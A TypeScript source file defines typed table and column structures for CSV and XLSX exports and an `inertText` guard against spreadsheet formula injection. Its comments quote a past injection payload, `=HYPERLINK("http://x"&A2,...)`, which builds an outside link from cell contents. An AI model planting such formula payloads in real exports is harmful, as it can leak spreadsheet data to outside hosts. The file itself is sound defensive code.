/**
 * What every export gridwall writes for a spreadsheet is made of (issue 19): a document of tables whose
 * columns say what they hold — text, a count or other number, a calendar day, an instant. The CSV and XLSX
 * writers (`csv-file.ts`, `xlsx-file.ts`) take only this, so no export writes a cell by hand: text always
 * passes `inertText` (never a formula), an identifier always stays text, a count always stays a number.
 */

/** The first characters that make Excel, LibreOffice or Google Sheets read a text cell as a formula. */
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;

/**
 * Text as a spreadsheet shows it and never evaluates (OWASP "CSV injection"): a value starting with a formula
 * character — `=`, `+`, `-`, `@`, tab, carriage return, or their full-width forms, which Japanese input
 * produces and which a spreadsheet may convert on entry — gets one leading `'` (Excel's own "this is text"
 * mark); anything else is left as it is. Issue 14: an emergency read's stated reason
 * `=HYPERLINK("http://x"&A2,"open")` reached compliance's review CSV as a live formula; issue 19: an office
 * `=1+1` from a staff file did the same in the analysis CSV. Numbers are not text and never pass here, so a
 * negative count stays a number.
 */
export function inertText(s: string): string {
  return FORMULA_START.test(s) ? `'${s}` : s;
}

/** What a column holds; it decides how each cell is written in CSV and in XLSX. */
export type Column<R> =
  | { readonly kind: 'text'; readonly head: string; readonly value: (row: R) => string | null | undefined; readonly width?: number }
  | { readonly kind: 'number'; readonly head: string; readonly value: (row: R) => number | null | undefined; readonly width?: number }
  /** A calendar day in Japan, `YYYY-MM-DD`: a date cell in XLSX. */
  | { readonly kind: 'day'; readonly head: string; readonly value: (row: R) => string | null | undefined; readonly width?: number }
  /** An instant: Japan time, a date-and-time cell in XLSX. */
  | { readonly kind: 'instant'; readonly head: string; readonly value: (row: R) => Date | null | undefined; readonly width?: number };

export type ColumnKind = Column<unknown>['kind'];

/** A column of text (names, identifiers, codes, reasons): text in every format, never a number or a formula. */
export const text = <R>(head: string, value: (row: R) => string | null | undefined, width?: number): Column<R> =>
  width === undefined ? { kind: 'text', head, value } : { kind: 'text', head, value, width };
/** A column of counts, shares or hours: numbers in every format. */
export const number = <R>(head: string, value: (row: R) => number | null | undefined, width?: number): Column<R> =>
  width === undefined ? { kind: 'number', head, value } : { kind: 'number', head, value, width };
/** A column of calendar days (`YYYY-MM-DD`, Japan). */
export const day = <R>(head: string, value: (row: R) => string | null | undefined, width?: number): Column<R> =>
  width === undefined ? { kind: 'day', head, value } : { kind: 'day', head, value, width };
/** A column of instants, shown in Japan time. */
export const instant = <R>(head: string, value: (row: R) => Date | null | undefined, width?: number): Column<R> =>
  width === undefined ? { kind: 'instant', head, value } : { kind: 'instant', head, value, width };

/** One cell as a writer receives it: the column's kind with its value (null for an empty cell). */
export type Cell =
  | { readonly kind: 'text'; readonly value: string | null }
  | { readonly kind: 'number'; readonly value: number | null }
  | { readonly kind: 'day'; readonly value: string | null }
  | { readonly kind: 'instant'; readonly value: Date | null };

/** A column as a writer sees it: its head, kind and width, without the row type. */
export interface ColumnHead {
  readonly head: string;
  readonly kind: ColumnKind;
  readonly width?: number;
}

/**
 * One table of a document: a sheet of the workbook, a section of the CSV. `notes` are lines above the table
 * (the period, the counts read); `rows` may be consumed once only.
 */
export interface Table {
  /** The sheet's name in the workbook (at most 31 characters, no `[]:*?/\`). */
  readonly sheet: string;
  /** The table's title: the section's first line in CSV, the printed page's header in XLSX. */
  readonly title: string;
  readonly notes: readonly string[];
  readonly columns: readonly ColumnHead[];
  readonly rows: Iterable<readonly Cell[]>;
}

/** A file to write: its title (the workbook's, and each printed page's) and its tables in order. */
export interface SpreadsheetDoc {
  readonly title: string;
  readonly tables: readonly Table[];
}

/** The cells of one row, each from its column. */
export function cellsOf<R>(columns: readonly Column<R>[], row: R): Cell[] {
  return columns.map((c): Cell => {
    switch (c.kind) {
      case 'text':
        return { kind: 'text', value: c.value(row) ?? null };
      case 'number':
        return { kind: 'number', value: c.value(row) ?? null };
      case 'day':
        return { kind: 'day', value: c.value(row) ?? null };
      case 'instant':
        return { kind: 'instant', value: c.value(row) ?? null };
    }
  });
}

/** The column heads without their value functions. */
export function headsOf<R>(columns: readonly Column<R>[]): ColumnHead[] {
  return columns.map((c) => (c.width === undefined ? { head: c.head, kind: c.kind } : { head: c.head, kind: c.kind, width: c.width }));
}

/** A table of rows of type `R` described by its columns. */
export function table<R>(spec: { sheet: string; title: string; notes?: readonly string[]; columns: readonly Column<R>[]; rows: Iterable<R> }): Table {
  const { columns, rows } = spec;
  return {
    sheet: spec.sheet,
    title: spec.title,
    notes: spec.notes ?? [],
    columns: headsOf(columns),
    rows: {
      *[Symbol.iterator]() {
        for (const r of rows) yield cellsOf(columns, r);
      },
    },
  };
}
